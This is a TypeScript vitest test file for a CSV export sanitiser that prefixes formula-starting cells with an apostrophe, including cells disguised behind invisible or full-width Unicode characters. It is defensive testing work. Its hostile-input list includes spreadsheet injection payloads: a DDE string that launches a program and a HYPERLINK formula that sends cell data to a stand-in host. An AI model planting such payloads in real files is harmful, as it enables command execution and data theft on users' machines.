import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { firstVisible, safeText, startsFormula } from "@/lib/export/safe-cell";

const hostile: readonly [what: string, text: string][] = [
  ["a formula", "=1+1"],
  ["a call to a program", "=cmd|' /C calc'!A0"],
  ["a link that sends data away", '=HYPERLINK("http://x/?"&A1,"bấm")'],
  ["a plus", "+84 123"],
  ["a minus that is no number", "-2+3+cmd|' /C calc'!A0"],
  ["an at", "@SUM(1+1)"],
  ["a pipe", "|calc"],
  ["a per cent", "%0A=1"],
  ["a space before it", " =1+1"],
  ["a no-break space before it", "\u00A0=1+1"],
  ["an ideographic space before it", "\u3000=1+1"],
  ["a tab before it", "\t=1+1"],
  ["a carriage return before it", "\r=1+1"],
  ["a line feed before it", "\n=1+1"],
  ["a byte order mark before it", "\uFEFF=1+1"],
  ["a zero-width space before it", "\u200B=1+1"],
  ["a soft hyphen before it", "\u00AD=1+1"],
  ["a NUL before it", "\u0000=1+1"],
  ["a change of direction before it", "\u202E=1+1"],
  ["a Hangul filler before it", "\u3164=1+1"],
  ["several of these before it", " \t\u200B\r\n\uFEFF=1+1"],
  ["a wide equals sign", "＝1+1"],
  ["a wide plus", "＋1"],
  ["a wide minus", "－1"],
  ["a wide at", "＠SUM(1)"],
  ["a small equals sign", "﹦1+1"],
  ["a superscript plus", "⁺1"],
  ["the Unicode minus", "−1+cmd"],
  ["an equals sign under a combining stroke", "=\u03381+1"],
  ["a tab alone", "\tx"],
  ["a carriage return alone", "\rx"],
  ["a starter alone", "="],
];

const harmless = [
  "",
  "Tiền Giang",
  "85,77",
  "a=b",
  "1-2",
  "(=1)",
  "'=1+1",
  "“=1+1”",
  "Đắk Lắk - Đắk Nông",
  "   chữ",
  "≠1",
  "*",
];

describe("a text in a CSV file", () => {
  test.each(hostile)("that begins with %s gets an apostrophe before it", (_, text) => {
    expect(startsFormula(text)).toBe(true);
    expect(safeText(text)).toBe(`'${text}`);
    expect(startsFormula(safeText(text))).toBe(false);
  });

  test.each(harmless)("%j stays as it is", (text) => {
    expect(safeText(text)).toBe(text);
  });

  test("never begins with what starts a formula, whatever it holds, and loses nothing", () => {
    const lead = fc.string({
      unit: fc.constantFrom(..." \t\r\n\uFEFF\u200B\u00A0=+-@＝＋－＠|%'a".split("")),
    });
    const any = fc.oneof(fc.string({ unit: "binary" }), fc.string({ unit: "grapheme" }));
    fc.assert(
      fc.property(fc.tuple(lead, any), ([one, two]) => {
        const safe = safeText(one + two);
        expect("=+-@|%＝＋－＠".split("")).not.toContain(firstVisible(safe));
        expect(safe).not.toMatch(/^[\t\r\n]/);
        expect([one + two, `'${one}${two}`]).toContain(safe);
      }),
    );
  });
});

test.each([
  ["x", "x"],
  [" \u200B\uFEFFĐ", "Đ"],
  ["😀", "😀"],
  [" \t", ""],
  ["", ""],
])("the first visible character of %j is %j", (text, first) => {
  expect(firstVisible(text)).toBe(first);
});
